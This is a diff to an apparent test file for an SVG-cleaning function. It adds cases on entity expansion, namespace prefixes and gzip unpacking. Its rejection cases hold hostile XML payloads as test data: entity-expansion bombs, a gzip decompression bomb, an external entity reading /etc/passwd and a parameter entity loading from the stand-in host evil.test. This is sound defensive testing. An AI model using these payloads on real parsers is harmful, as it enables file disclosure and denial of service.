@@ -1,6 +1,7 @@
 """SVG cleaning: what draws stays, what runs or loads goes, and a second pass changes nothing."""
 
 import base64
+import gzip
 import io
 
 import pytest
@@ -128,9 +129,46 @@ def test_namespace_entities_of_drawing_programs_are_written_out() -> None:
     assert b"#0086bf" in clean_svg(data, "image/svg+xml", LIMITS).data
 
 
+def test_style_entities_of_drawing_programs_are_written_out() -> None:
+    declared = b'<!DOCTYPE svg [ <!ENTITY st0 "fill:#E4572E;"> <!ENTITY st1 "fill:none;stroke:#17BEBB;"> ]>'
+    data = declared + HEAD.encode() + b'<rect style="&st0;" width="9" height="9"/><path style="&st1;" d="M0 0"/></svg>'
+    cleaned = clean_svg(data, "image/svg+xml", LIMITS).data
+    assert b"#E4572E" in cleaned
+    assert b"stroke:#17BEBB" in cleaned
+    assert b"ENTITY" not in cleaned
+
+
+def test_named_characters_of_html_are_known() -> None:
+    assert "Acme\u00a0\u00a9 &amp; Co" in clean("<title>Acme&nbsp;&copy; &amp; Co</title>")
+
+
+def test_prefixes_that_nobody_declared_do_not_lose_the_drawing() -> None:
+    head = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">'
+    cleaned = clean('<g inkscape:label="x" id="a" fill="#0086BF"/><use xlink:href="#a"/><sodipodi:namedview/>', head)
+    assert "#0086BF" in cleaned
+    assert 'xlink:href="#a"' in cleaned
+    assert "inkscape" not in cleaned
+
+
+def test_a_packed_drawing_is_unpacked() -> None:
+    plain = f'{HEAD}<rect fill="#0086BF"/></svg>'.encode()
+    assert b"#0086BF" in clean_svg(gzip.compress(plain), "image/svg+xml", LIMITS).data
+    assert refusal(gzip.compress(plain)[:-12]) == "malformed"
+    assert refusal(gzip.compress(b"\0" * 60_000_000)) == "bomb"
+
+
 @pytest.mark.parametrize(
     ("data", "reason"),
     [
+        (
+            b'<!DOCTYPE svg [<!ENTITY a "fill:'
+            + b"a" * 90
+            + b'">]><svg xmlns="http://www.w3.org/2000/svg">'
+            + b"&a;" * 20_000
+            + b"</svg>",
+            "entities",
+        ),
+        (b'<!DOCTYPE svg [<!ENTITY a "fill:red"><!ENTITY b "&a;&a;">]><svg style="&b;"/>', "entities"),
         (b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>', "entities"),
         (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', "entities"),
         (b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.test/x"> %p;]><svg/>', "entities"),
